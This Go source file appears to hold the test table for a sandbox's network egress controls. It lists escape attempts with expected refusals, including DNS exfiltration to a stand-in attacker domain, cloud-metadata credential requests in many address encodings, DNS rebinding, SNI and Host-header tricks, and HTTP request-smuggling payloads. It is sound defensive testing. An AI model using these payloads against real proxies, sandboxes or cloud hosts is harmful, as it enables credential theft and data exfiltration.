package escape

import "github.com/cofferhq/coffer/internal/fakenet"

// zone are the names that lead somewhere else than to a public server. Several entries
// take turns.
var zone = map[string][]string{
	"private.example":   {"10.20.0.5"},
	"metadata.example":  {"169.254.169.254"},
	"cloud.example":     {"168.63.129.16"},
	"loop.example":      {"127.0.0.1"},
	"loop6.example":     {"::1"},
	"mapped.example":    {"::ffff:127.0.0.1"},
	"nat64.example":     {"64:ff9b::7f00:1"},
	"sixto4.example":    {"2002:a9fe:a9fe::1"},
	"zero.example":      {"0.0.0.0"},
	"cgnat.example":     {"100.64.1.1"},
	"ula.example":       {"fd12::1"},
	"linklocal.example": {"fe80::1"},
	"own.example":       {fakenet.Own4},
	"own6.example":      {fakenet.Own6},
	"lan.example":       {fakenet.OwnLAN},
	"mixed.example":     {"10.20.0.5 20.0.0.77 192.168.1.1"},
	"rebind.example":    {"20.0.0.1", "169.254.169.254"},
	"rebound.example":   {"20.0.0.1", "127.0.0.1"},
}

// crossings are the sandboxes and what is attempted in them. What is refused is refused
// in its own language: HTTP gets a 403 that says why, TLS an alert, a name does not
// exist, UDP meets ECONNREFUSED and everything else a reset.
func crossings() []crossing {
	return []crossing{
		{name: "standard", walls: join(strangers, exfiltration, metadata(), ownHost, otherProtocols, wiring), ways: standardWays},
		{name: "rules", rules: rules, walls: join(rebinding(), serverNames, hostHeaders, spellings), ways: ruleWays},
		{name: "open", flags: []string{"--net", "open"}, walls: openWalls(), ways: openWays},
		{name: "none", flags: []string{"--net", "none"}, walls: noneWalls},
		{name: "nested", flags: []string{"--nesting"}, walls: nestedWiring()},
		{name: "shut", rules: []string{"deny *", "deny 0.0.0.0/0", "deny ::/0"}, walls: shutWalls},
	}
}

func join(parts ...[]attempt) (all []attempt) {
	for _, p := range parts {
		all = append(all, p...)
	}
	return all
}

// strangers: somebody whom no rule is about.
var strangers = []attempt{
	{n: "78", name: "talk to a stranger by TCP", do: "talk 20.0.0.1:7 {w}", wall: "ECONNRESET", as: "both"},
	{n: "78.ssh", name: "wait for a stranger to speak first", do: "silent 20.0.0.1:22 {w}", wall: "ECONNRESET"},
	{n: "78.tls", name: "speak TLS to a stranger's address", do: "tls 20.0.0.1:443 - {w}", wall: "ALERT-49"},
	{n: "78.sni", name: "speak TLS to a stranger's address, naming an allowed server", do: "tls 20.0.0.1:443 github.com {w}", wall: "ALERT-49 ALERT-112"},
	{n: "79", name: "talk to a stranger by IPv6", do: "talk [2a0f:c0ff::1]:7 {w}", wall: "ECONNRESET", as: "both"},
	{n: "79.http", name: "ask a stranger for a page by IPv6", do: "get http://[2a0f:c0ff::1]/{w}", wall: "403"},
	{n: "80", name: "send to a stranger by UDP", do: "udp 20.0.0.1:7 {w}", wall: "ECONNREFUSED", as: "both"},
	{n: "80.six", name: "send to a stranger by UDP and IPv6", do: "udp [2a0f:c0ff::1]:7 {w}", wall: "ECONNREFUSED", as: "both"},
	{n: "80.quic", name: "send to a stranger by QUIC", do: "udp 20.0.0.1:443 {w}", wall: "ECONNREFUSED"},
	{n: "92", name: "ask a stranger for a page", do: "get http://20.0.0.1/{w}", wall: "403", as: "both"},
	{n: "92.name", name: "ask a stranger for a page by name", do: "get http://evil.example/{w}", wall: "NXDOMAIN", as: "both"},
	{n: "92.host", name: "ask a stranger's address for a page of an allowed host", do: "get http://20.0.0.1/{w} github.com", wall: "403"},
	{n: "92.port", name: "ask an allowed host on another port", do: "get http://github.com:8080/{w}", wall: "403"},
	{n: "93", name: "reach a stranger by a forwarder inside", do: "relayed http://20.0.0.1/{w}", wall: "403"},
	{n: "85", name: "ask for a tunnel to a stranger on an allowed host's port", do: "tunnel github.com:3128 evil.example:7 {w}", wall: "403"},
	{n: "85.ip", name: "ask a stranger's proxy for a tunnel", do: "tunnel 20.0.0.1:3128 evil.example:7 {w}", wall: "403"},
	{n: "x13.spoof", name: "talk to a stranger from another's address", do: "bound tcp 20.0.0.9:4444 20.0.0.1:7 {w}", wall: "ECONNRESET"},
	{n: "x13.udp", name: "send to a stranger from another's address", do: "bound udp 20.0.0.9:4444 20.0.0.1:7 {w}", wall: "ECONNREFUSED"},
	{n: "x13.loop", name: "send to a stranger from loopback", do: "bound udp 127.0.0.1:4444 20.0.0.1:7 {w}", wall: "ECONNREFUSED EINVAL"},
}

// exfiltration: to ask for a name is to tell it to whoever answers for its domain.
var exfiltration = []attempt{
	{n: "81", name: "ask for a name below a stranger's", do: "lookup {w}.evil.example", wall: "NXDOMAIN", as: "both"},
	{n: "81.txt", name: "ask a stranger's server for a text", do: "dns udp 20.0.0.53:53 {w}.evil.example txt", wall: "NXDOMAIN"},
	{n: "81.a", name: "ask a stranger's server for an address", do: "dns udp 20.0.0.53:53 {w}.evil.example a", wall: "NXDOMAIN", as: "both"},
	{n: "81.tcp", name: "ask a stranger's server by TCP", do: "dns tcp 20.0.0.53:53 {w}.evil.example a", wall: "NXDOMAIN"},
	{n: "81.six", name: "ask a stranger's server by IPv6", do: "dns udp [2a0f::53]:53 {w}.evil.example mx", wall: "NXDOMAIN"},
	{n: "81.mx", name: "ask for where mail goes", do: "dns tcp [2a0f::53]:53 {w}.evil.example mx", wall: "NXDOMAIN"},
	{n: "81.any", name: "ask for everything", do: "dns udp 20.0.0.53:53 {w}.evil.example any", wall: "NXDOMAIN", free: "NO-DATA"},
	{n: "81.null", name: "ask for a kind that nobody knows", do: "dns udp 20.0.0.53:53 {w}.evil.example null", wall: "NXDOMAIN", free: "NO-DATA"},
	{n: "81.ptr", name: "ask for the name of an address that is a word", do: "dns udp 20.0.0.53:53 {w}.in-addr.arpa ptr", wall: "NXDOMAIN NXDOMAIN-UNEXPLAINED NO-DATA"},
	{n: "81.own", name: "ask for a name below coffer's own", do: "dns udp 20.0.0.53:53 {w}.coffer.internal a", wall: "NXDOMAIN NXDOMAIN-UNEXPLAINED"},
	{n: "81.sub", name: "ask for a name below an allowed host", do: "lookup {w}.gitlab.com", wall: "NXDOMAIN"},
	{n: "81.wild", name: "ask for a name below an allowed domain: it is made up here", do: "lookup {w}.github.com", wall: "ok"},
	{n: "81.dot", name: "ask a stranger's server over TLS", do: "tls 20.0.0.53:853 - {w}", wall: "ALERT-49"},
	{n: "81.ans", name: "ask a stranger's server for an allowed name", do: "dns udp 20.0.0.53:53 github.com a", wall: "ok", hurt: `^dns.20\.0\.0\.53:53`},
	{n: "81.bytes", name: "ask for a name with odd bytes below an allowed domain", do: "dns udp 20.0.0.53:53 {w}%00.github.com a", wall: "NXDOMAIN"},
}

// metadata: the service that gives a cloud machine's credentials to whoever asks, in all
// the spellings of its address.
func metadata() (all []attempt) {
	for i, host := range []string{
		"169.254.169.254", "2852039166", "0251.0376.0251.0376", "0xa9fea9fe", "169.16689662", "0xa9.254.0251.254",
		"[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]", "[fd00:ec2::254]", "100.100.100.200", "168.63.129.16",
	} {
		all = append(all, attempt{n: "82." + string(rune('a'+i)), name: "ask for the cloud's credentials at " + host, do: "get http://" + host + "/{w}", wall: "403"})
	}
	return append(all,
		attempt{n: "82.name", name: "ask for them with an allowed host's name", do: "get http://169.254.169.254/{w} github.com", wall: "403"},
		attempt{n: "82.raw", name: "talk to the cloud's address", do: "talk 169.254.169.254:7 {w}", wall: "ECONNRESET", as: "both"},
	)
}

// ownHost: services of the host itself.
var ownHost = []attempt{
	{n: "83.net", name: "talk to the host's loopback", do: "talk 127.0.0.1:7070 {w}", wall: "ECONNREFUSED", as: "both"},
	{n: "83.net6", name: "talk to the host's loopback by IPv6", do: "talk [::1]:7070 {w}", wall: "ECONNREFUSED"},
	{n: "83.far", name: "talk to the far end of the host's loopback", do: "talk 127.9.8.7:7070 {w}", wall: "ECONNREFUSED"},
	{n: "83.zero", name: "talk to no address", do: "talk 0.0.0.0:7070 {w}", wall: "ECONNREFUSED"},
	{n: "83.zero6", name: "talk to no address by IPv6", do: "talk [::]:7070 {w}", wall: "ECONNREFUSED"},
	{n: "83.own", name: "talk to the host's public address", do: "talk " + fakenet.Own4 + ":7070 {w}", wall: "ECONNRESET", as: "both"},
	{n: "83.own6", name: "talk to the host's public address by IPv6", do: "talk [" + fakenet.Own6 + "]:7070 {w}", wall: "ECONNRESET"},
	{n: "83.lan", name: "talk to the host's private address", do: "talk " + fakenet.OwnLAN + ":7070 {w}", wall: "ECONNRESET"},
	{n: "83.page", name: "ask the host's private address for a page", do: "get http://" + fakenet.OwnLAN + "/{w}", wall: "403"},
	{n: "83.name", name: "talk to the host by the name that coffer gives it", do: "talk host.coffer.internal:7070 {w}", control: "talk 127.0.0.1:7070 {w}", wall: "ECONNRESET ECONNREFUSED", as: "both"},
	{n: "83.lo", name: "ask localhost for a page", do: "get http://localhost:8080/{w}", wall: "ECONNREFUSED"},
	{n: "83.near", name: "talk to a neighbour of the host", do: "talk 192.168.20.77:7070 {w}", wall: "ECONNRESET"},
	{n: "x13.self", name: "talk to the address that all sandboxes have", do: "talk 198.18.0.2:7070 {w}", wall: "ECONNREFUSED"},
	{n: "x13.free", name: "talk to an address that no name has", do: "talk 198.18.77.77:7070 {w}", wall: "ECONNRESET"},
	{n: "x13.gate", name: "talk to the gateway's own address", do: "talk 198.18.0.1:7070 {w}", wall: "ECONNRESET"},
	{n: "x14", name: "talk to who takes the sandbox's connections", do: "listeners {w}", wall: "ECONNRESET ECONNREFUSED EOF", as: "both"},
}

// otherProtocols: what is neither TCP nor UDP as one knows them.
var otherProtocols = []attempt{
	{n: "94.mp", name: "talk to a stranger by MPTCP", do: "answered mptcp 20.0.0.1:7 {w}", wall: "ECONNRESET EPROTONOSUPPORT ENOPROTOOPT", as: "both", why: "this kernel has no MPTCP"},
	{n: "94.tfo", name: "talk to a stranger by TCP Fast Open", do: "answered fastopen 20.0.0.1:7 {w}", wall: "ECONNRESET EOPNOTSUPP", as: "both", why: "this host has Fast Open switched off"},
	{n: "94.sct", name: "talk to a stranger by SCTP", do: "answered sctp 20.0.0.1:7 {w}", wall: "EPROTONOSUPPORT ESOCKTNOSUPPORT EPERM ECONNREFUSED", by: "nobody", why: "nobody listens by SCTP"},
	{n: "x13.ping", name: "ping a stranger", do: "ping 20.0.0.1 {w}", wall: "EACCES EPERM EHOSTUNREACH", hurt: "-", why: "this host lets nobody ping"},
}

// wiring: the sandbox's own network, which leads to the gateway and nowhere else.
var wiring = []attempt{
	{n: "x15.route", name: "add a route", do: "route", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
	{n: "x15.gone", name: "remove a route", do: "unroute", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
	{n: "x15.link", name: "add an interface", do: "interface", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
	{n: "x15.down", name: "turn an interface off", do: "down", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
	{n: "x15.ioctl", name: "turn an interface off, the old way", do: "ifdown", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
	{n: "x15.addr", name: "add an address", do: "address", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
	{n: "x15.rule", name: "add a routing rule", do: "rule", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
	{n: "x15.nft", name: "remove the packet rules", do: "flush-nft", wall: "EPERM EPROTONOSUPPORT", hurt: "-", as: "both", by: "ns", why: "this kernel has no packet rules"},
	{n: "x15.sock", name: "take connections over, as coffer does", do: "sockopt", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
	{n: "x15.tun", name: "make a tunnel interface", do: "tun", wall: "ENOENT EPERM EACCES", hurt: "-", as: "both", by: "ns", why: "this host has no tunnel device"},
}

// nestedWiring is the same with --nesting, where programs may make namespaces: what they
// can do in those of their own leads nowhere.
func nestedWiring() (all []attempt) {
	for _, a := range wiring {
		a.n = "n" + a.n
		all = append(all, a)
	}
	return append(all,
		attempt{n: "n78", name: "talk to a stranger, with --nesting", do: "talk 20.0.0.1:7 {w}", wall: "ECONNRESET", as: "both"},
		attempt{n: "n82", name: "ask for the cloud's credentials, with --nesting", do: "get http://169.254.169.254/{w}", wall: "403", as: "both"},
		attempt{n: "n67.pkt", name: "open a packet socket, with --nesting", do: "socket 17 3 0", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
		attempt{n: "n67.raw", name: "open a raw socket, with --nesting", do: "socket 2 3 1", wall: "EPERM", hurt: "-", as: "both", by: "ns"},
		attempt{n: "nx14", name: "talk to who takes the connections, with --nesting", do: "listeners {w}", wall: "ECONNRESET ECONNREFUSED", as: "both"},
	)
}

// rules are what the user of the second sandbox has allowed.
var rules = []string{
	"allow good.example:80,443,8443,22,7", "allow *.wild.example", "deny denied.wild.example", "allow good.example:3128,3306,5432",
	"allow good.example:7 --protocol udp", "allow 20.0.5.0/24:80", "allow only.example:443 --protocol tls",
	"allow 10.30.0.0/16:80", "allow inside.example:80", "allow 169.254.0.0/16:80",
	"allow private.example metadata.example cloud.example loop.example loop6.example mapped.example nat64.example sixto4.example",
	"allow zero.example cgnat.example ula.example linklocal.example own.example own6.example lan.example mixed.example rebind.example rebound.example",
}

// rebinding: a name that is allowed, and leads where it must not.
func rebinding() (all []attempt) {
	for i, name := range []string{"private", "metadata", "cloud", "loop", "loop6", "mapped", "nat64", "sixto4", "zero", "cgnat", "ula", "own", "own6", "lan"} {
		all = append(all, attempt{n: "84." + string(rune('a'+i)), name: "ask " + name + ".example, an allowed name, for a page", do: "get http://" + name + ".example/{w}", wall: "403"})
	}
	return append(all,
		attempt{n: "84.ll", name: "ask an allowed name that leads to a link-local address", do: "get http://linklocal.example/{w}", wall: "403", by: "nobody", why: "such an address needs an interface"},
		attempt{n: "84.tls", name: "the same by TLS", do: "tls metadata.example:443 metadata.example {w}", wall: "ALERT-49"},
		attempt{n: "84.raw", name: "the same by a protocol of its own", do: "talk loop.example:7070 {w}", wall: "ECONNRESET"},
		attempt{n: "84.ssh", name: "the same where the server speaks first", do: "silent private.example:22 {w}", wall: "ECONNRESET"},
		attempt{n: "84.bind", name: "bind an allowed name anew between look and leap", do: "rebind http://rebind.example/{w}", wall: "403", hurt: `^http.169\.254\.169\.254:80.*{w}`},
		attempt{n: "84.bound", name: "the same, to the host's loopback", do: "rebind http://rebound.example/{w}", wall: "403", hurt: `^http.127\.0\.0\.1:80.*{w}`},
		attempt{n: "84.range", name: "ask for the cloud's credentials where its range is allowed", do: "get http://169.254.169.254/{w}", wall: "403"},
		attempt{n: "84.host", name: "ask an allowed network for a page of a host that is not", do: "get http://20.0.5.5/{w} evil.example", wall: "421"},
		attempt{n: "84.out", name: "ask an address beside an allowed network", do: "get http://20.0.6.5/{w}", wall: "403"},
	)
}

// serverNames: TLS, where the name of the server is all there is to see.
var serverNames = []attempt{
	{n: "86", name: "name another server than the allowed one", do: "tls good.example:443 {w}.example {w}", wall: "ALERT-112"},
	{n: "86.port", name: "the same where any protocol is allowed", do: "tls good.example:8443 {w}.example {w}", wall: "ALERT-112"},
	{n: "86.odd", name: "the same to somebody who speaks no TLS", do: "tls good.example:7 {w}.example {w}", wall: "ALERT-112", free: "NO-TLS"},
	{n: "86.sub", name: "name a server below the allowed one", do: "tls good.example:443 {w}.good.example {w}", wall: "ALERT-112"},
	{n: "86.net", name: "name a server that is not allowed at an allowed address", do: "tls 20.0.5.5:443 {w}.example {w}", wall: "ALERT-49 ALERT-112"},
	{n: "88", name: "name no server", do: "tls good.example:443 - {w}", wall: "ALERT-112"},
	{n: "88.ech", name: "name another server, encrypted", do: "ech good.example:443 {w}.example {w} {ech}", wall: "ALERT-112", hurt: "sni={w}"},
	{n: "86.cut", name: "name another server, in many small records", do: "tls-records good.example:443 {w}.example {w}", wall: "ALERT-112"},
	{n: "86.bytes", name: "name another server, a byte at a time", do: "tls-bytes good.example:443 {w}.example {w}", wall: "ALERT-112"},
	{n: "86.slow", name: "name another server after a pause", do: "tls-slow good.example:443 {w}.example {w}", wall: "ALERT-112 ECONNRESET"},
	{n: "85.tun", name: "have an allowed proxy lead elsewhere", do: "tunnel good.example:3128 evil.example:7 {w}", wall: "403"},
	{n: "80.name", name: "speak QUIC to an allowed host", do: "udp good.example:443 {w}", wall: "ECONNREFUSED"},
	{n: "85.tls", name: "talk in the clear where only TLS is allowed", do: "talk only.example:443 {w}", wall: "ECONNRESET", by: "nobody", why: "that server speaks only TLS"},
}

// A request as it should be has its line, its host, and an empty line.
func bad(lines string) string { return "raw good.example:80 " + lines }

// hostHeaders: plain HTTP, where one connection may carry requests for many hosts.
var hostHeaders = []attempt{
	{n: "87", name: "ask an allowed host for a page of another", do: "get http://good.example/{w} evil.example", wall: "421"},
	{n: "87.port", name: "ask it for a page of another port", do: "get http://good.example/{w} good.example:8080", wall: "421"},
	{n: "87.keep", name: "ask for another's page in the second request", do: "second good.example:80 good.example evil.example {w}", wall: "421"},
	{n: "87.pipe", name: "the same without a pause", do: "second good.example:80 good.example evil.example {w} pipelined", wall: "421"},
	{n: "89", name: "name another host in the request line", do: bad("GET%20http://evil.example/{w}%20HTTP/1.1%0D%0AHost:%20good.example%0D%0A%0D%0A"), wall: "400 421"},
	{n: "89.both", name: "name another host in both places", do: bad("GET%20http://evil.example/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "421"},
	{n: "90", name: "be sent on to a stranger", do: "follow http://good.example/redirect?to=http://evil.example/{w}", wall: "NXDOMAIN", hurt: "GET./{w}"},
	{n: "90.ip", name: "be sent on to the cloud's credentials", do: "follow http://good.example/redirect?to=http://169.254.169.254/{w}", wall: "403", hurt: "GET./{w}"},
	{n: "91", name: "say two lengths", do: bad("POST%20/a%20HTTP/1.1%0D%0AHost:%20good.example%0D%0AContent-Length:%205%0D%0ATransfer-Encoding:%20chunked%0D%0A%0D%0A0%0D%0A%0D%0AGET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400"},
	{n: "91.cl", name: "say a length twice, differently", do: bad("POST%20/{w}%20HTTP/1.1%0D%0AHost:%20good.example%0D%0AContent-Length:%205%0D%0AContent-Length:%200%0D%0A%0D%0A"), wall: "400"},
	{n: "91.host", name: "name two hosts", do: bad("GET%20/{w}%20HTTP/1.1%0D%0AHost:%20good.example%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400"},
	{n: "91.none", name: "name no host", do: bad("GET%20/{w}%20HTTP/1.1%0D%0A%0D%0A"), wall: "400"},
	{n: "91.old", name: "name no host, in the old way", do: bad("GET%20/{w}%20HTTP/1.0%0D%0A%0D%0A"), wall: "400 505"},
	{n: "91.fold", name: "fold a line", do: bad("GET%20/{w}%20HTTP/1.1%0D%0AHost:%20good.example%0D%0AX:%20a%0D%0A%20Host:%20evil.example%0D%0A%0D%0A"), wall: "400"},
	{n: "91.space", name: "put a space before a colon", do: bad("GET%20/{w}%20HTTP/1.1%0D%0AHost:%20good.example%0D%0AHost%20:%20evil.example%0D%0A%0D%0A"), wall: "400"},
	{n: "91.lf", name: "end lines otherwise", do: bad("GET%20/{w}%20HTTP/1.1%0AHost:%20good.example%0AHost:%20evil.example%0A%0A"), wall: "400"},
	{n: "91.te", name: "encode in an unknown way", do: bad("POST%20/{w}%20HTTP/1.1%0D%0AHost:%20good.example%0D%0ATransfer-Encoding:%20xchunked%0D%0A%0D%0A0%0D%0A%0D%0A"), wall: "400 501"},
	{n: "91.empty", name: "begin with an empty line", do: bad("%0D%0AGET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400"},
	{n: "91.blank", name: "begin with a space", do: bad("%20GET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400"},
	{n: "91.tab", name: "put tabs between the words", do: bad("GET%09/{w}%09HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400"},
	{n: "91.lower", name: "write the method in small letters", do: bad("get%20/{w}%20http/1.1%0D%0Ahost:%20evil.example%0D%0A%0D%0A"), wall: "400 421 505"},
	{n: "91.odd", name: "use a method that nobody knows", do: bad("M-X!%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400 421"},
	{n: "91.slow", name: "make a pause in the first word", do: "pause 2 good.example:80 GET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A", wall: "400 421 ECONNRESET"},
	{n: "91.late", name: "make a pause before the host", do: "pause 30 good.example:80 GET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A", wall: "421"},
	{n: "91.443", name: "ask in the clear on a port of TLS", do: "get http://good.example:8443/{w} evil.example:8443", wall: "421", by: "nobody", why: "that server speaks only TLS"},
	{n: "91.body", name: "hide a request in a body", do: bad("POST%20/a%20HTTP/1.1%0D%0AHost:%20good.example%0D%0ATransfer-Encoding:%20chunked%0D%0A%0D%0A5;x=%0Ay%0D%0Ahello%0D%0A0%0D%0A%0D%0AGET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "400", hurt: "-", free: "EOF ok"},
	{n: "91.proxy", name: "hide a request behind a line for proxies", do: bad("PROXY%20TCP4%201.1.1.1%202.2.2.2%201%2080%0D%0AGET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "ECONNRESET"},
	{n: "91.prox2", name: "hide it behind the same in binary", do: bad("%0D%0A%0D%0A%00%0D%0AQUIT%0A%21%00%00%00GET%20/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "ECONNRESET", free: "EOF"},
	{n: "91.h2", name: "speak HTTP/2 in the clear", do: bad("PRI%20*%20HTTP/2.0%0D%0A%0D%0ASM%0D%0A%0D%0A{w}"), wall: "ECONNRESET"},
	{n: "85.conn", name: "send CONNECT to an allowed host", do: bad("CONNECT%20evil.example:80%20HTTP/1.1%0D%0AHost:%20evil.example:80%0D%0A%0D%0A{w}"), wall: "403", hurt: "{w}|CONNECT"},
}

// spellings: the same name, written so that a careless reader takes it for another.
var spellings = []attempt{
	{n: "95", name: "ask for a denied name", do: "get http://denied.wild.example/{w}", wall: "NXDOMAIN 403"},
	{n: "95.dot", name: "write it with a dot at the end", do: "get http://denied.wild.example./{w}", wall: "NXDOMAIN 403"},
	{n: "95.case", name: "write it in capitals", do: "get http://DENIED.Wild.Example/{w}", wall: "NXDOMAIN 403"},
	{n: "95.host", name: "write it into Host in capitals", do: "get http://fine.wild.example/{w} DENIED.wild.example", wall: "421"},
	{n: "95.user", name: "put an allowed name before an at sign", do: "get http://20.0.0.1/{w} good.example@20.0.0.1", wall: "400 403 421"},
	{n: "95.user2", name: "put the denied name after an at sign", do: "get http://good.example/{w} good.example@evil.example", wall: "400 421"},
	{n: "95.nul", name: "put a zero byte between two names", do: "dns udp 20.0.0.53:53 denied.wild.example%00.{w}.wild.example a", wall: "NXDOMAIN"},
	{n: "95.puny", name: "write it in letters that look the same", do: "get http://xn--denied-4nf.{w}.example/", wall: "NXDOMAIN"},
	{n: "95.sni", name: "name it to a server of the same domain", do: "tls fine.wild.example:443 denied.wild.example {w}", wall: "ALERT-112", hurt: "sni=denied"},
	{n: "95.apex", name: "ask for the domain of which all below is allowed", do: "get http://wild.example/{w}", wall: "NXDOMAIN 403"},
	{n: "95.suffix", name: "ask for a name that ends the same", do: "get http://notwild.example/{w}", wall: "NXDOMAIN"},
}

// openWalls: even where everything is allowed, some addresses are nobody's business.
func openWalls() (all []attempt) {
	for _, a := range join(metadata(), rebinding()) {
		if a.n == "84.host" || a.n == "84.out" {
			continue
		}
		a.n, a.as = "o"+a.n, ""
		all = append(all, a)
	}
	return append(all,
		attempt{n: "o83", name: "talk to the host's public address, with --net open", do: "talk " + fakenet.Own4 + ":7070 {w}", wall: "ECONNRESET"},
		attempt{n: "o83.route", name: "talk to an address that is the host's by a route alone, with --net open", do: "talk " + fakenet.Routed + ":7070 {w}", wall: "ECONNRESET"},
		attempt{n: "o83.lan", name: "talk to the host's private address, with --net open", do: "talk " + fakenet.OwnLAN + ":7070 {w}", wall: "ECONNRESET"},
		attempt{n: "o83.lo", name: "talk to the host's loopback, with --net open", do: "talk 127.0.0.1:7070 {w}", wall: "ECONNREFUSED"},
		attempt{n: "o83.name", name: "talk to the host by its name, with --net open", do: "talk host.coffer.internal:7070 {w}", control: "talk 127.0.0.1:7070 {w}", wall: "ECONNRESET ECONNREFUSED"},
		attempt{n: "o83.near", name: "talk to a neighbour of the host, with --net open", do: "talk 192.168.20.77:7070 {w}", wall: "ECONNRESET"},
		attempt{n: "o80", name: "speak QUIC, with --net open", do: "udp 20.0.0.1:443 {w}", wall: "ECONNREFUSED"},
		attempt{n: "o86", name: "name another server, with --net open", do: "tls good.example:443 {w}.example {w}", wall: "ALERT-112"},
		attempt{n: "o87", name: "ask for another's page, with --net open", do: "get http://good.example/{w} evil.example", wall: "421"},
		attempt{n: "o81", name: "ask for a name that is an address, with --net open", do: "dns udp 20.0.0.53:53 2852039166 a", wall: "NXDOMAIN", hurt: `2852039166\.`},
		attempt{n: "ox14", name: "talk to who takes the connections, with --net open", do: "listeners {w}", wall: "ECONNRESET ECONNREFUSED"},
	)
}

// noneWalls: no network at all.
var noneWalls = []attempt{
	{n: "96.tcp", name: "talk to a stranger, with --net none", do: "talk 20.0.0.1:7 {w}", wall: "ENETUNREACH"},
	{n: "96.six", name: "talk to a stranger by IPv6, with --net none", do: "talk [2a0f:c0ff::1]:7 {w}", wall: "ENETUNREACH EADDRNOTAVAIL"},
	{n: "96.udp", name: "send to a stranger, with --net none", do: "udp 20.0.0.1:7 {w}", wall: "ENETUNREACH"},
	{n: "96.udp6", name: "send to a stranger by IPv6, with --net none", do: "udp [2a0f:c0ff::1]:7 {w}", wall: "ENETUNREACH EADDRNOTAVAIL"},
	{n: "96.dns", name: "ask for a name, with --net none", do: "lookup {w}.example", wall: "DNS-ERROR NXDOMAIN"},
	{n: "96.lo", name: "talk to the host's loopback, with --net none", do: "talk 127.0.0.1:7070 {w}", wall: "ECONNREFUSED"},
	{n: "96.mp", name: "talk by MPTCP, with --net none", do: "answered mptcp 20.0.0.1:7 {w}", wall: "ENETUNREACH EPROTONOSUPPORT ENOPROTOOPT", why: "this kernel has no MPTCP"},
	{n: "96.name", name: "talk to the host by its name, with --net none", do: "talk host.coffer.internal:7070 {w}", control: "talk 127.0.0.1:7070 {w}", wall: "DNS-ERROR NXDOMAIN"},
	{n: "96.nobody", name: "find anybody who listens, with --net none", do: "listeners {w}", wall: "NOBODY-LISTENS"},
}

// shutWalls: an empty list allows nothing, also of what is allowed otherwise.
var shutWalls = []attempt{
	{n: "96", name: "ask for a name of the built-in groups where all is denied", do: "lookup github.com", wall: "NXDOMAIN", hurt: "-"},
	{n: "96.ip", name: "ask an address for a page where all is denied", do: "get http://20.0.0.1/{w}", wall: "403"},
}

// What has to work: a wall that keeps out everybody is easy.
var standardWays = []way{
	{"ok.1", "ask an allowed host for a page", "get http://github.com/{w}"},
	{"ok.2", "speak TLS to an allowed host", "tls github.com:443 github.com {w}"},
	{"ok.3", "speak SSH to an allowed host", "silent github.com:22 {w}"},
	{"ok.4", "speak TLS to a host below an allowed domain", "tls api.github.com:443 api.github.com {w}"},
}

var ruleWays = []way{
	{"ok.10", "ask an allowed host for a page", "get http://good.example/{w}"},
	{"ok.11", "ask for two pages on one connection", "second good.example:80 good.example good.example {w}"},
	{"ok.12", "ask for two pages without a pause", "second good.example:80 good.example good.example {w} pipelined"},
	{"ok.13", "speak TLS to an allowed host", "tls good.example:443 good.example {w}"},
	{"ok.14", "name it in capitals", "tls good.example:443 GOOD.example {w}"},
	{"ok.15", "speak SSH to an allowed host", "silent good.example:22 {w}"},
	{"ok.16", "speak with a database that speaks first", "silent good.example:3306 {w}"},
	{"ok.17", "talk to an echo", "talk good.example:7 {w}"},
	{"ok.18", "send by UDP where a rule says so", "udp good.example:7 {w}"},
	{"ok.19", "ask an allowed network for a page", "get http://20.0.5.5/{w}"},
	{"ok.20", "ask an allowed network for a page of an allowed host", "get http://20.0.5.5/{w} good.example"},
	{"ok.21", "ask an allowed private network for a page", "get http://10.30.0.1/{w}"},
	{"ok.22", "ask a host below an allowed domain", "get http://a.b.c.wild.example/{w}"},
	{"ok.23", "ask a name of which one address is public", "get http://mixed.example/{w}"},
	{"ok.24", "be sent on to an allowed host", "follow http://good.example/redirect?to=http://x.wild.example/{w}"},
	{"ok.26", "speak with a database that speaks second", "database good.example:5432 {w}"},
	{"ok.27", "speak TLS in many small records", "tls-records good.example:443 good.example {w}"},
	{"ok.28", "speak TLS a byte at a time", "tls-bytes good.example:443 good.example {w}"},
	{"ok.29", "make a pause before the host", "pause 30 good.example:80 GET%20/{w}%20HTTP/1.1%0D%0AHost:%20good.example%0D%0AConnection:%20close%0D%0A%0D%0A"},
	{"ok.25", "send much", "upload http://good.example/{w} 3000000"},
}

var openWays = []way{
	{"ok.30", "talk to anybody, with --net open", "talk 20.0.0.1:7 {w}"},
	{"ok.31", "talk to anybody by IPv6, with --net open", "talk [2a0f:c0ff::1]:7 {w}"},
	{"ok.32", "send to anybody, with --net open", "udp 20.0.0.1:7 {w}"},
	{"ok.33", "send to anybody by IPv6, with --net open", "udp [2a0f:c0ff::1]:7 {w}"},
	{"ok.34", "ask anybody for a page, with --net open", "get http://anybody.example/{w}"},
	{"ok.35", "speak TLS to anybody, with --net open", "tls anybody.example:443 anybody.example {w}"},
	{"ok.36", "speak SSH with anybody, with --net open", "silent anybody.example:22 {w}"},
}
